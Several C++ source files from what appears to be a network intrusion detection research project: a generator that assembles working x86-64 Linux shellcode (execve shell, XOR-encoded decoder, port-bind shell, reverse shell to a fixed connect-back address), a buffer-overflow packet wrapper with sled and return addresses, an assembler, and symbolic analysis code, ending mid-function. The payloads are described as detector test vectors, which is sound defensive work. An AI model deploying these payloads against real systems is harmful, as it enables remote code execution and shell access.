  /// mov qword [base+disp8], src (base must not be rsp/rbp/r12/r13).
  void mov_mem64_r64(R64 base, std::int8_t disp, R64 src) {
    rex(true, src, base);
    a.raw8(0x89);
    a.raw8(static_cast<std::uint8_t>(0x40 | (lo3(src) << 3) | lo3(base)));
    a.raw8(static_cast<std::uint8_t>(disp));
  }
  void lea_r64(R64 dst, R64 base, std::int8_t disp) {
    rex(true, dst, base);
    a.raw8(0x8D);
    a.raw8(static_cast<std::uint8_t>(0x40 | (lo3(dst) << 3) | lo3(base)));
    a.raw8(static_cast<std::uint8_t>(disp));
  }
  void push_r64(R64 r) {
    if (ext(r)) a.raw8(0x41);
    a.raw8(static_cast<std::uint8_t>(0x50 + lo3(r)));
  }
  void pop_r64(R64 r) {
    if (ext(r)) a.raw8(0x41);
    a.raw8(static_cast<std::uint8_t>(0x58 + lo3(r)));
  }
  void inc_r64(R64 r) {
    rex(true, R64::rax, r);
    a.raw8(0xFF);
    a.raw8(static_cast<std::uint8_t>(0xC0 | lo3(r)));
  }
  /// dec r32 — the 0x48+r short form is a REX byte in long mode, so the
  /// FF /1 form is required.
  void dec_r32_long(R64 r) {
    if (ext(r)) a.raw8(0x41);
    a.raw8(0xFF);
    a.raw8(static_cast<std::uint8_t>(0xC8 | lo3(r)));
  }
  void syscall_() {
    a.raw8(0x0F);
    a.raw8(0x05);
  }
  /// mov rax, imm8 via push/pop: keeps the encoding NUL-free and makes
  /// the number a forwarded stack constant.
  void set_r64_imm8(R64 r, std::int8_t v) {
    a.push_imm8(v);
    pop_r64(r);
  }
};

/// Shared tail: zero rdx (envp) then execve with the number in al over a
/// zeroed rax. Expects rdi=path, rsi=argv, rax=0 already.
void emit_syscall_execve(Asm64& x) {
  x.a.xor_r32_r32(R32::edx, R32::edx);
  x.a.mov_r8_imm8(R8::al, 59);
  x.syscall_();
}

/// Body of the imm64-push execve, emitted inline so the network payloads
/// can reuse it as their tail.
void emit_execve_push64(Asm64& x) {
  x.a.xor_r32_r32(R32::eax, R32::eax);  // rax = 0 (32-bit write zero-extends)
  x.push_r64(R64::rax);                 // path terminator
  x.mov_r64_imm64(R64::rbx, 0x68732f2f6e69622full);  // "/bin//sh"
  x.push_r64(R64::rbx);
  x.mov_r64_r64(R64::rdi, R64::rsp);    // rdi = path
  x.push_r64(R64::rax);                 // argv[1] = NULL
  x.push_r64(R64::rdi);                 // argv[0] = path
  x.mov_r64_r64(R64::rsi, R64::rsp);    // rsi = argv
  emit_syscall_execve(x);
}

/// Shared socket(AF_INET, SOCK_STREAM, 0); leaves the fd in rdi.
void emit_socket64(Asm64& x) {
  x.set_r64_imm8(R64::rdi, 2);          // AF_INET
  x.set_r64_imm8(R64::rsi, 1);          // SOCK_STREAM
  x.a.xor_r32_r32(R32::edx, R32::edx);
  x.set_r64_imm8(R64::rax, 41);         // socket
  x.syscall_();
  x.mov_r64_r64(R64::rdi, R64::rax);    // fd
}

}  // namespace

util::Bytes ExploitBuilder64::execve_stack() {
  Asm64 x;
  emit_execve_push64(x);
  return x.a.finish();
}

util::Bytes ExploitBuilder64::execve_embedded() {
  Asm64 x;
  auto lmain = x.a.new_label();
  auto lget = x.a.new_label();
  x.a.jmp_short(lget);
  x.a.bind(lmain);
  x.pop_r64(R64::rdi);                        // rdi = &"/bin/sh"
  x.a.xor_r32_r32(R32::eax, R32::eax);
  x.a.mov_mem_r8(R32::edi, 7, R8::al);        // terminate the path
  x.mov_mem64_r64(R64::rdi, 8, R64::rdi);     // argv[0] = path
  x.mov_mem64_r64(R64::rdi, 16, R64::rax);    // argv[1] = NULL
  x.lea_r64(R64::rsi, R64::rdi, 8);
  emit_syscall_execve(x);
  x.a.bind(lget);
  x.a.call(lmain);
  x.a.raw(util::as_bytes("/bin/shXAAAAAAAABBBBBBBB"));
  return x.a.finish();
}

util::Bytes ExploitBuilder64::xor_decoder(std::uint8_t key) {
  Bytes plain = execve_stack();
  Bytes encoded = plain;
  for (auto& b : encoded) b = static_cast<std::uint8_t>(b ^ key);

  Asm64 x;
  auto lmain = x.a.new_label();
  auto lget = x.a.new_label();
  auto lloop = x.a.new_label();
  x.a.jmp_short(lget);
  x.a.bind(lmain);
  x.pop_r64(R64::rsi);
  x.push_r64(R64::rsi);  // save the payload start: the final ret runs it
  x.a.xor_r32_r32(R32::ecx, R32::ecx);
  x.a.mov_r8_imm8(R8::cl, static_cast<std::uint8_t>(encoded.size()));
  x.a.bind(lloop);
  x.a.xor_mem8_imm8(R32::esi, key);  // xor byte [rsi], key
  x.inc_r64(R64::rsi);
  x.a.loop_(lloop);
  x.a.ret();  // jump into the decoded payload
  x.a.bind(lget);
  x.a.call(lmain);
  x.a.raw(encoded);
  return x.a.finish();
}

util::Bytes ExploitBuilder64::port_bind(std::uint16_t port_be) {
  Asm64 x;
  emit_socket64(x);

  // bind(fd, {AF_INET, port, INADDR_ANY}, 16)
  x.a.xor_r32_r32(R32::eax, R32::eax);
  x.push_r64(R64::rax);  // sin_zero + sin_addr = 0
  x.a.push_imm32(0x00000002u |
                 (static_cast<std::uint32_t>(port_be) << 16));  // family|port
  x.mov_r64_r64(R64::rsi, R64::rsp);
  x.set_r64_imm8(R64::rdx, 16);
  x.set_r64_imm8(R64::rax, 49);  // bind
  x.syscall_();

  // listen(fd, 1)
  x.set_r64_imm8(R64::rsi, 1);
  x.set_r64_imm8(R64::rax, 50);  // listen
  x.syscall_();

  // accept(fd, 0, 0)
  x.a.xor_r32_r32(R32::esi, R32::esi);
  x.a.xor_r32_r32(R32::edx, R32::edx);
  x.set_r64_imm8(R64::rax, 43);  // accept
  x.syscall_();

  emit_execve_push64(x);
  return x.a.finish();
}

util::Bytes ExploitBuilder64::reverse_shell(std::uint32_t c2_ip_be,
                                            std::uint16_t c2_port_be) {
  Asm64 x;
  emit_socket64(x);

  // connect(fd, {AF_INET, port, ip}, 16). One qword holds the whole
  // sockaddr prefix: family | port<<16 | addr<<32 (addr kept in network
  // order, as the 32-bit generator does).
  const std::uint32_t ip_le = ((c2_ip_be & 0xffu) << 24) |
                              ((c2_ip_be & 0xff00u) << 8) |
                              ((c2_ip_be >> 8) & 0xff00u) | (c2_ip_be >> 24);
  x.mov_r64_imm64(R64::rbx,
                  0x2ull | (static_cast<std::uint64_t>(c2_port_be) << 16) |
                      (static_cast<std::uint64_t>(ip_le) << 32));
  x.push_r64(R64::rbx);
  x.mov_r64_r64(R64::rsi, R64::rsp);
  x.set_r64_imm8(R64::rdx, 16);
  x.set_r64_imm8(R64::rax, 42);  // connect
  x.syscall_();

  // dup2(fd, 2..0)
  x.set_r64_imm8(R64::rsi, 2);
  auto ldup = x.a.new_label();
  x.a.bind(ldup);
  x.set_r64_imm8(R64::rax, 33);  // dup2
  x.syscall_();
  x.dec_r32_long(R64::rsi);
  x.a.jcc(0x9, ldup);  // jns: loop for 2,1,0

  emit_execve_push64(x);
  return x.a.finish();
}

std::vector<Shellcode64Sample> ExploitBuilder64::corpus() {
  std::vector<Shellcode64Sample> out;
  out.push_back({"execve64-imm64-push", execve_stack(), false});
  out.push_back({"execve64-getpc-embedded", execve_embedded(), false});
  out.push_back({"xor-decoder-64", xor_decoder(), false});
  out.push_back({"bind-shell-64", port_bind(), true});
  out.push_back({"reverse-shell-64", reverse_shell(), false});
  return out;
}

util::Bytes ExploitBuilder64::wrap(util::ByteView shellcode, util::Prng& prng) {
  // One-byte instructions that stay valid (and register-transparent) in
  // long mode; the 32-bit sled pool's BCD bytes are invalid there.
  static constexpr std::uint8_t kSled64Pool[] = {
      0x90,  // nop
      0xF8,  // clc
      0xF9,  // stc
      0xF5,  // cmc
      0xFC,  // cld
      0x98,  // cwde
      0x99,  // cdq
  };
  const std::string preamble = "GET /vuln.cgi?arg=";
  constexpr std::size_t kFillerLen = 96;
  constexpr std::size_t kSledLen = 24;
  constexpr std::size_t kRetCount = 8;
  constexpr std::uint32_t kRetBase = 0xbffff000;

  Bytes out;
  out.reserve(preamble.size() + kFillerLen + kSledLen + shellcode.size() +
              kRetCount * 4 + 16);
  out.insert(out.end(), preamble.begin(), preamble.end());
  out.insert(out.end(), kFillerLen, 'A');
  for (std::size_t i = 0; i < kSledLen; ++i) {
    out.push_back(kSled64Pool[prng.below(sizeof kSled64Pool)]);
  }
  out.insert(out.end(), shellcode.begin(), shellcode.end());
  // Return-address region: only the least significant byte varies, so the
  // address always lands inside the sled (Section 4.2's invariant).
  for (std::size_t i = 0; i < kRetCount; ++i) {
    util::put_u32le(out, kRetBase | static_cast<std::uint32_t>(prng.below(0x80)));
  }
  out.insert(out.end(), {'\r', '\n', '\r', '\n'});
  return out;
}

}  // namespace senids::gen
