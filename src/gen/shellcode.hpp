// Shellcode corpus: eight Linux shell-spawning payloads (two of which
// bind the shell to a network port), the iis-asp-overflow-style
// decoder-prefixed exploit, and a Netsky-scale timing sample. These
// reproduce the behaviours of the eight public exploits in Table 1 and
// the samples of Section 5.2; see DESIGN.md for the substitution
// rationale. None of these are runnable exploits against real services —
// they are detector test vectors that exercise the same syscall and
// decoder semantics.
#pragma once

#include <string>
#include <vector>

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

struct ShellcodeSample {
  std::string name;
  util::Bytes code;
  bool binds_port = false;  // Table 1 "B" rows
};

/// The eight Table-1 payload variants, in a fixed order.
std::vector<ShellcodeSample> make_shell_spawn_corpus();

/// Connect-back shell: socket + connect(ip:port) + dup2 chain + execve
/// (extension family; detected by the reverse-shell template).
/// `c2_ip_be` and `c2_port_be` are in network byte order.
util::Bytes make_reverse_shell(std::uint32_t c2_ip_be, std::uint16_t c2_port_be);

/// Options for wrapping raw shellcode into the classic buffer-overflow
/// exploit layout of Figure 4: [protocol preamble]['A' filler][NOP-like
/// sled][shellcode][return-address region].
struct OverflowOptions {
  std::string preamble = "GET /vuln.cgi?arg=";  // well-formed request prefix
  std::size_t filler_len = 96;                  // repeated-byte overflow filler
  std::uint8_t filler_byte = 'A';
  std::size_t sled_len = 24;
  std::size_t ret_count = 8;                    // repeated return addresses
  std::uint32_t ret_base = 0xbffff000;          // only the low byte varies
};

/// Build the on-wire exploit packet payload around `shellcode`, as the
/// paper's exploit-generator tool did when firing at the honeypot.
util::Bytes wrap_in_overflow(util::ByteView shellcode, util::Prng& prng,
                             const OverflowOptions& options = {});

/// iis-asp-overflow analogue: xor decryption routine prefixed to an
/// encoded shell-spawning region (Section 5.2, first polymorphic test).
util::Bytes make_iis_asp_overflow_payload(std::uint8_t key = 0x95);

/// xor decoder that locates itself with the fnstenv GetPC idiom
/// (fldz; fnstenv [esp-12]; pop pointer) instead of jmp/call/pop — the
/// other self-location technique real encoders use.
util::Bytes make_fnstenv_decoder_payload(std::uint8_t key = 0x42);

/// ~22 KB code blob with an embedded decryption loop, standing in for
/// the Netsky samples used for the timing comparison against [5].
util::Bytes make_netsky_like_sample(util::Prng& prng, std::size_t size_bytes = 22 * 1024);

}  // namespace senids::gen
