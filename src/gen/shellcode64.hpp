// x86-64 shellcode corpus: long-mode counterparts of the Table-1 payload
// families (execve spawns, a self-decrypting decoder, a port binder, and
// a connect-back shell), all using the Linux x86-64 `syscall` convention
// (number in rax, args rdi/rsi/rdx). As with the 32-bit corpus these are
// detector test vectors, not runnable exploits; the engine must detect
// every sample end-to-end under arch::X86_64.
#pragma once

#include <string>
#include <vector>

#include "util/bytes.hpp"
#include "util/prng.hpp"

namespace senids::gen {

struct Shellcode64Sample {
  std::string name;
  util::Bytes code;
  bool binds_port = false;
};

/// Builder for the 64-bit attack corpus. Stateless; each method returns a
/// freshly assembled payload.
class ExploitBuilder64 {
 public:
  /// execve("/bin//sh") with the path built by a single imm64 push.
  static util::Bytes execve_stack();

  /// execve with an embedded path located by the call/pop GetPC idiom.
  static util::Bytes execve_embedded();

  /// xor decoder (call/pop GetPC, `loop`-driven) wrapping an encoded
  /// execve_stack payload.
  static util::Bytes xor_decoder(std::uint8_t key = 0x7a);

  /// socket/bind/listen/accept then execve; `port_be` in network order.
  static util::Bytes port_bind(std::uint16_t port_be = 0x5c11);

  /// socket/connect then execve; ip/port in network byte order.
  static util::Bytes reverse_shell(std::uint32_t c2_ip_be = 0x0a141e28,
                                   std::uint16_t c2_port_be = 0x5c11);

  /// The full corpus, fixed order and names (for differential tests).
  static std::vector<Shellcode64Sample> corpus();

  /// Wrap raw shellcode in the Figure-4 overflow layout, like
  /// wrap_in_overflow but with a sled of long-mode-valid one-byte
  /// instructions (the 32-bit pool contains encodings such as daa that
  /// are invalid under x86-64).
  static util::Bytes wrap(util::ByteView shellcode, util::Prng& prng);
};

}  // namespace senids::gen
