// Trace composer: turns application payloads into complete, time-ordered
// pcap captures with proper TCP/UDP framing — the synthetic stand-in for
// the production network traces of Tables 1 and 3 and Section 5.4.
#pragma once

#include "gen/benign.hpp"
#include "net/forge.hpp"
#include "pcap/pcap.hpp"
#include "util/prng.hpp"

namespace senids::gen {

class TraceBuilder {
 public:
  explicit TraceBuilder(std::uint64_t seed, std::uint32_t start_ts = 1136073600)
      : prng_(seed), ts_sec_(start_ts) {}

  /// One-directional TCP flow carrying `payload`, segmented at `mss`.
  /// Emits SYN, the data segments, and FIN.
  void add_tcp_flow(const net::Endpoint& src, const net::Endpoint& dst,
                    util::ByteView payload, std::size_t mss = 1400);

  /// Single UDP datagram.
  void add_udp(const net::Endpoint& src, const net::Endpoint& dst, util::ByteView payload);

  /// SYN probes from `src` to `count` sequential addresses starting at
  /// `first_target` (dark-space scanning behaviour).
  void add_syn_scan(const net::Endpoint& src, net::Ipv4Addr first_target,
                    std::uint16_t dst_port, std::size_t count);

  /// A benign payload on its natural transport/port.
  void add_benign(const net::Endpoint& src, net::Ipv4Addr dst_ip, const BenignPayload& p);

  /// A full bidirectional HTTP exchange: client request flow plus a
  /// server response flow back (benign traffic in both directions).
  void add_http_exchange(const net::Endpoint& client, const net::Endpoint& server,
                         util::ByteView request, util::ByteView response);

  /// Advance the capture clock by a random sub-second amount.
  void tick();

  [[nodiscard]] const pcap::Capture& capture() const noexcept { return capture_; }
  pcap::Capture take() { return std::move(capture_); }
  util::Prng& prng() noexcept { return prng_; }

 private:
  void record(util::ByteView frame);

  util::Prng prng_;
  pcap::Capture capture_;
  std::uint32_t ts_sec_;
  std::uint32_t ts_usec_ = 0;
  std::uint16_t ip_id_ = 1;
};

}  // namespace senids::gen
