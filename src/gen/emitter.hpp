// A tiny x86 assembler ("emitter") used by the exploit and polymorphic
// engines to synthesize shellcode byte sequences. Supports forward and
// backward label references with rel8/rel32 fixups — the out-of-order
// block sequencing of ADMmutate-style engines depends on that.
//
// Instruction coverage is exactly what the corpus generators need; it is
// intentionally a separate, much smaller surface than the decoder in
// src/x86 (which must handle arbitrary hostile bytes).
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <vector>

#include "util/bytes.hpp"
#include "arch/reg.hpp"

namespace senids::gen {

/// 3-bit register encodings, named for readability at call sites.
enum class R32 : std::uint8_t { eax = 0, ecx, edx, ebx, esp, ebp, esi, edi };
enum class R8 : std::uint8_t { al = 0, cl, dl, bl, ah, ch, dh, bh };

/// Low-byte register of a 32-bit register family (eax -> al ...). Only
/// valid for eax/ecx/edx/ebx.
R8 low8(R32 r);

/// Thrown when a fixup cannot be encoded (rel8 out of range) or a label
/// is used but never bound. These are generator bugs, not input errors.
class EmitError : public std::runtime_error {
 public:
  explicit EmitError(const std::string& what) : std::runtime_error(what) {}
};

class Asm {
 public:
  struct Label {
    std::size_t id;
  };

  Label new_label();
  /// Bind `label` to the current position.
  void bind(Label label);
  /// Offset a bound label resolves to (valid after bind, before finish).
  [[nodiscard]] std::optional<std::size_t> label_offset(Label label) const {
    const std::ptrdiff_t at = labels_[label.id];
    if (at < 0) return std::nullopt;
    return static_cast<std::size_t>(at);
  }
  [[nodiscard]] std::size_t size() const noexcept { return code_.size(); }

  /// Resolve all fixups and return the code. The Asm is left empty.
  util::Bytes finish();

  /// Append raw bytes (data regions, pre-encoded payloads).
  void raw(util::ByteView bytes);
  void raw8(std::uint8_t b);

  // ------------------------------------------------------------- moves
  void mov_r32_imm32(R32 r, std::uint32_t imm);
  void mov_r8_imm8(R8 r, std::uint8_t imm);
  void mov_r32_r32(R32 dst, R32 src);
  void mov_r8_r8(R8 dst, R8 src);
  void mov_r32_mem(R32 dst, R32 base, std::int8_t disp = 0);   // mov dst, [base+disp]
  void mov_mem_r32(R32 base, std::int8_t disp, R32 src);       // mov [base+disp], src
  void mov_r8_mem(R8 dst, R32 base, std::int8_t disp = 0);
  void mov_mem_r8(R32 base, std::int8_t disp, R8 src);
  void mov_mem_imm8(R32 base, std::int8_t disp, std::uint8_t imm);
  void mov_mem_imm32(R32 base, std::int8_t disp, std::uint32_t imm);
  void lea(R32 dst, R32 base, std::int32_t disp);
  void xchg_r32_r32(R32 a, R32 b);

  // -------------------------------------------------------------- stack
  void push_r32(R32 r);
  void pop_r32(R32 r);
  void push_imm32(std::uint32_t imm);
  void push_imm8(std::int8_t imm);

  // ---------------------------------------------------------------- alu
  void alu_r32_r32(std::uint8_t family, R32 dst, R32 src);  // family: 0=add 1=or 2=adc 3=sbb 4=and 5=sub 6=xor 7=cmp
  void alu_r32_imm(std::uint8_t family, R32 dst, std::int32_t imm);
  void alu_r8_imm8(std::uint8_t family, R8 dst, std::uint8_t imm);
  void alu_r8_r8(std::uint8_t family, R8 dst, R8 src);
  void alu_mem8_imm8(std::uint8_t family, R32 base, std::uint8_t imm);  // op byte [base], imm
  void alu_mem8_r8(std::uint8_t family, R32 base, R8 src);              // op byte [base], src

  void add_r32_imm(R32 r, std::int32_t imm) { alu_r32_imm(0, r, imm); }
  void sub_r32_imm(R32 r, std::int32_t imm) { alu_r32_imm(5, r, imm); }
  void xor_r32_r32(R32 a, R32 b) { alu_r32_r32(6, a, b); }
  void xor_mem8_imm8(R32 base, std::uint8_t k) { alu_mem8_imm8(6, base, k); }
  void xor_mem8_r8(R32 base, R8 src) { alu_mem8_r8(6, base, src); }

  void inc_r32(R32 r);
  void dec_r32(R32 r);
  void not_r8(R8 r);
  void neg_r8(R8 r);
  void not_r32(R32 r);
  void test_r32_r32(R32 a, R32 b);
  void cmp_r32_imm8(R32 r, std::int8_t imm);
  void shift_r8_imm8(std::uint8_t subop, R8 r, std::uint8_t count);  // subop: 0=rol 1=ror 4=shl 5=shr
  void cdq();
  void nop();

  // -------------------------------------------------------- control flow
  void jmp(Label target);        // rel8 when resolvable-short, else rel32
  void jmp_short(Label target);  // force rel8 (EmitError if out of range)
  void jcc(std::uint8_t cc, Label target);  // rel8; cc = low nibble (0x5 = jnz)
  void jcc_near(std::uint8_t cc, Label target);  // 0F 8x rel32
  void jnz(Label target) { jcc(0x5, target); }
  void jmp_r32(R32 r);           // jmp reg (FF /4)
  void loop_(Label target);      // rel8 only
  void jecxz(Label target);      // rel8 only
  void call(Label target);       // rel32
  void int_imm(std::uint8_t vector);
  void ret();

 private:
  struct Fixup {
    std::size_t at;       // position of the displacement field
    std::size_t label;
    bool rel8;
  };

  void emit_modrm_mem(std::uint8_t reg, R32 base, std::int32_t disp);

  util::Bytes code_;
  std::vector<std::ptrdiff_t> labels_;  // -1 while unbound
  std::vector<Fixup> fixups_;
};

}  // namespace senids::gen
