// Junk-instruction (dead code) identification — the normalization step of
// Christodorescu et al. [5]. The template matcher itself is
// junk-tolerant (subsequence matching over events), so this pass is not
// on the detection path; it exists as a diagnostic (polymorphic_lab
// renders matched vs junk instructions) and for downstream users who
// want normalized listings.
#pragma once

#include <vector>

#include "arch/defuse.hpp"
#include "arch/insn.hpp"

namespace senids::ir {

struct DeadCodeResult {
  /// Parallel to the trace: true = the instruction's results are never
  /// observed (dead/junk relative to `exit_live`).
  std::vector<bool> dead;
  std::size_t dead_count = 0;
};

/// Classic backward liveness over an execution-order trace. An
/// instruction is dead iff it has no side effects, writes no memory, and
/// every register (and flag) it defines is overwritten before being read.
/// `exit_live` is the register set assumed live after the trace; pass
/// RegSet::all() for a conservative analysis, or the empty set to ask
/// "what matters to this code's own control flow and stores".
DeadCodeResult find_dead_code(const std::vector<arch::Instruction>& trace,
                              arch::RegSet exit_live = arch::RegSet{});

}  // namespace senids::ir
