#include "ir/deadcode.hpp"

namespace senids::ir {

DeadCodeResult find_dead_code(const std::vector<arch::Instruction>& trace,
                              arch::RegSet exit_live) {
  DeadCodeResult result;
  result.dead.assign(trace.size(), false);

  arch::RegSet live = exit_live;
  bool flags_live = false;

  for (std::size_t i = trace.size(); i-- > 0;) {
    const arch::DefUse du = arch::def_use(trace[i]);

    const bool observable =
        du.side_effect || du.mem_write || du.defs.intersects(live) ||
        (du.flags_def && flags_live);
    // Pure reads (cmp/test with no live consumer) are also dead, but only
    // when their flags result is unused.
    const bool defines_anything = !du.defs.empty() || du.flags_def || du.mem_write;

    if (!observable && defines_anything) {
      result.dead[i] = true;
      ++result.dead_count;
      continue;  // a dead instruction contributes no uses
    }

    // Backward transfer: defs kill liveness, uses generate it.
    arch::RegSet next_live;
    for (unsigned f = 0; f < 8; ++f) {
      const auto fam = static_cast<arch::RegFamily>(f);
      if (live.contains_family(fam) && !du.defs.contains_family(fam)) {
        next_live.add_family(fam);
      }
    }
    next_live |= du.uses;
    live = next_live;
    if (du.flags_def) flags_live = false;
    if (du.flags_use) flags_live = true;
  }
  return result;
}

}  // namespace senids::ir
