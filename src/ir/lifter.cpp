#include "ir/lifter.hpp"

#include <array>

#include "arch/decoder.hpp"

namespace senids::ir {

using arch::Instruction;
using arch::Mnemonic;
using arch::Operand;
using arch::OperandKind;
using arch::Reg;
using arch::RegFamily;
using arch::RegWidth;

namespace {

struct Store {
  ExprPtr addr;
  std::uint8_t width;
  ExprPtr value;
};

/// Mutable machine state threaded through the trace.
class Machine {
 public:
  Machine() {
    for (unsigned f = 0; f < 16; ++f) {
      regs_[f] = mk_init(static_cast<RegFamily>(f));
    }
  }

  /// Per-instruction context: long mode selects the 64-bit stack stride
  /// and RIP-relative resolution. The symbolic register model is shared —
  /// each family's expression models its low 32 bits (the "low-32 model"),
  /// which preserves every constant the templates care about because
  /// x86-64 immediates land little-endian-first in the low dword.
  void set_insn(const Instruction& insn) {
    long_mode_ = insn.mode == arch::Mode::k64;
    cur_end_offset_ = insn.end_offset();
  }

  std::vector<Event> events;
  std::size_t approximated = 0;

  // ------------------------------------------------------------ registers

  [[nodiscard]] ExprPtr reg_full(RegFamily f) const { return regs_[static_cast<unsigned>(f)]; }

  [[nodiscard]] ExprPtr read_reg(Reg r) const {
    ExprPtr full = reg_full(r.family);
    switch (r.width) {
      case RegWidth::k64:  // low-32 model: the family expression IS the value
      case RegWidth::k32:
        return full;
      case RegWidth::k16:
        return mk_bin(BinOp::kAnd, full, mk_const(0xffff));
      case RegWidth::k8Lo:
        return mk_bin(BinOp::kAnd, full, mk_const(0xff));
      case RegWidth::k8Hi:
        return mk_bin(BinOp::kAnd, mk_bin(BinOp::kShr, full, mk_const(8)), mk_const(0xff));
    }
    return full;
  }

  void write_reg(Reg r, ExprPtr val, const Instruction& insn, std::size_t idx) {
    ExprPtr full = reg_full(r.family);
    ExprPtr merged;
    switch (r.width) {
      // A 32-bit write zero-extends to 64 on x86-64, so both full widths
      // replace the family expression outright under the low-32 model.
      case RegWidth::k64:
      case RegWidth::k32:
        merged = std::move(val);
        break;
      case RegWidth::k16:
        merged = mk_bin(BinOp::kOr, mk_bin(BinOp::kAnd, full, mk_const(0xffff0000u)),
                        mk_bin(BinOp::kAnd, val, mk_const(0xffff)));
        break;
      case RegWidth::k8Lo:
        merged = mk_bin(BinOp::kOr, mk_bin(BinOp::kAnd, full, mk_const(0xffffff00u)),
                        mk_bin(BinOp::kAnd, val, mk_const(0xff)));
        break;
      case RegWidth::k8Hi:
        merged = mk_bin(BinOp::kOr, mk_bin(BinOp::kAnd, full, mk_const(0xffff00ffu)),
                        mk_bin(BinOp::kShl, mk_bin(BinOp::kAnd, val, mk_const(0xff)),
                               mk_const(8)));
        break;
    }
    regs_[static_cast<unsigned>(r.family)] = merged;
    Event ev;
    ev.kind = EventKind::kRegWrite;
    ev.insn_index = idx;
    ev.insn_offset = insn.offset;
    ev.reg = r.family;
    ev.value = merged;
    events.push_back(std::move(ev));
  }

  ExprPtr fresh_unknown() { return mk_unknown(unknown_counter_++); }

  /// Offset of the most recent FPU instruction (fnstenv stores it as FIP).
  std::optional<std::size_t> last_fpu_offset;

  void clobber_reg(RegFamily f, const Instruction& insn, std::size_t idx) {
    write_reg(Reg{f, RegWidth::k32}, fresh_unknown(), insn, idx);
  }

  // --------------------------------------------------------------- memory

  [[nodiscard]] std::uint32_t generation() const {
    return static_cast<std::uint32_t>(stores_.size());
  }

  /// Split an address into (symbolic base, constant offset) for cheap
  /// no-alias proofs: base+8 and base+16 can never overlap a 4-byte write.
  static void split_addr(const ExprPtr& e, ExprPtr& base, std::int64_t& off) {
    if (e->kind == ExprKind::kConst) {
      base = nullptr;
      off = e->cval;
    } else if (e->kind == ExprKind::kBin && e->bop == BinOp::kAdd &&
               e->rhs->kind == ExprKind::kConst) {
      base = e->lhs;
      off = static_cast<std::int32_t>(e->rhs->cval);
    } else {
      base = e;
      off = 0;
    }
  }

  static bool provably_distinct(const ExprPtr& a, unsigned wa, const ExprPtr& b,
                                unsigned wb) {
    ExprPtr ba, bb;
    std::int64_t oa, ob;
    split_addr(a, ba, oa);
    split_addr(b, bb, ob);
    const bool same_base = (!ba && !bb) || (ba && bb && struct_eq(ba, bb));
    if (!same_base) return false;  // unknown relationship
    // Disjoint byte ranges [oa, oa+wa/8) and [ob, ob+wb/8)?
    return oa + static_cast<std::int64_t>(wa / 8) <= ob ||
           ob + static_cast<std::int64_t>(wb / 8) <= oa;
  }

  ExprPtr load(const ExprPtr& addr, unsigned width) {
    // Forward the newest store to a structurally identical address,
    // skipping stores provably disjoint from this load; stop at the first
    // store that may alias.
    for (auto it = stores_.rbegin(); it != stores_.rend(); ++it) {
      if (it->width == width && struct_eq(it->addr, addr)) return it->value;
      if (provably_distinct(addr, width, it->addr, it->width)) continue;
      break;
    }
    return mk_load(addr, width, generation());
  }

  void store(ExprPtr addr, unsigned width, ExprPtr value, const Instruction& insn,
             std::size_t idx) {
    Event ev;
    ev.kind = EventKind::kMemWrite;
    ev.insn_index = idx;
    ev.insn_offset = insn.offset;
    ev.addr = addr;
    ev.width = static_cast<std::uint8_t>(width);
    ev.value = value;
    events.push_back(ev);
    stores_.push_back(Store{std::move(addr), static_cast<std::uint8_t>(width),
                            std::move(value)});
  }

  // ------------------------------------------------------------- operands

  [[nodiscard]] ExprPtr mem_addr(const arch::MemRef& m) const {
    if (m.rip) {
      // RIP-relative: a known in-buffer constant, same transparency as the
      // call/pop GetPC constant.
      return mk_const(static_cast<std::uint32_t>(cur_end_offset_ + m.disp));
    }
    ExprPtr e;
    if (m.base) e = reg_full(m.base->family);
    if (m.index) {
      ExprPtr idx = reg_full(m.index->family);
      if (m.scale != 1) idx = mk_bin(BinOp::kMul, idx, mk_const(m.scale));
      e = e ? mk_bin(BinOp::kAdd, e, idx) : idx;
    }
    if (m.disp != 0 || !e) {
      ExprPtr d = mk_const(static_cast<std::uint32_t>(m.disp));
      e = e ? mk_bin(BinOp::kAdd, e, d) : d;
    }
    return e;
  }

  static unsigned width_bits_of(RegWidth w) {
    return w == RegWidth::k64   ? 64
           : w == RegWidth::k32 ? 32
           : w == RegWidth::k16 ? 16
                                : 8;
  }

  ExprPtr read_operand(const Operand& op) {
    switch (op.kind) {
      case OperandKind::kReg:
        return read_reg(op.reg);
      case OperandKind::kImm:
      case OperandKind::kRel:
        return mk_const(static_cast<std::uint32_t>(op.imm));
      case OperandKind::kMem:
        return load(mem_addr(op.mem), width_bits_of(op.mem.width));
      case OperandKind::kNone:
        return mk_const(0);
    }
    return mk_const(0);
  }

  void write_operand(const Operand& op, ExprPtr val, const Instruction& insn,
                     std::size_t idx) {
    if (op.kind == OperandKind::kReg) {
      write_reg(op.reg, std::move(val), insn, idx);
    } else if (op.kind == OperandKind::kMem) {
      store(mem_addr(op.mem), width_bits_of(op.mem.width), std::move(val), insn, idx);
    }
  }

  // ---------------------------------------------------------------- stack

  void push_value(ExprPtr val, const Instruction& insn, std::size_t idx) {
    const std::uint32_t stride = long_mode_ ? 0xfffffff8u : 0xfffffffcu;
    ExprPtr esp = mk_bin(BinOp::kAdd, reg_full(RegFamily::kSp), mk_const(stride));
    regs_[static_cast<unsigned>(RegFamily::kSp)] = esp;
    store(esp, long_mode_ ? 64 : 32, std::move(val), insn, idx);
  }

  ExprPtr pop_value() {
    ExprPtr esp = reg_full(RegFamily::kSp);
    ExprPtr val = load(esp, long_mode_ ? 64 : 32);
    regs_[static_cast<unsigned>(RegFamily::kSp)] =
        mk_bin(BinOp::kAdd, esp, mk_const(long_mode_ ? 8 : 4));
    return val;
  }

 private:
  std::array<ExprPtr, 16> regs_;
  std::vector<Store> stores_;
  std::uint32_t unknown_counter_ = 0;
  bool long_mode_ = false;
  std::size_t cur_end_offset_ = 0;
};

/// ALU mnemonic -> expression operator (nullopt for unmodeled ones).
std::optional<BinOp> alu_op(Mnemonic m) {
  switch (m) {
    case Mnemonic::kAdd: return BinOp::kAdd;
    case Mnemonic::kSub: return BinOp::kSub;
    case Mnemonic::kXor: return BinOp::kXor;
    case Mnemonic::kOr: return BinOp::kOr;
    case Mnemonic::kAnd: return BinOp::kAnd;
    case Mnemonic::kShl: return BinOp::kShl;
    case Mnemonic::kShr: return BinOp::kShr;
    case Mnemonic::kSar: return BinOp::kSar;
    case Mnemonic::kRol: return BinOp::kRol;
    case Mnemonic::kRor: return BinOp::kRor;
    default: return std::nullopt;
  }
}

void emit_branch(Machine& m, const Instruction& insn, std::size_t idx, bool conditional,
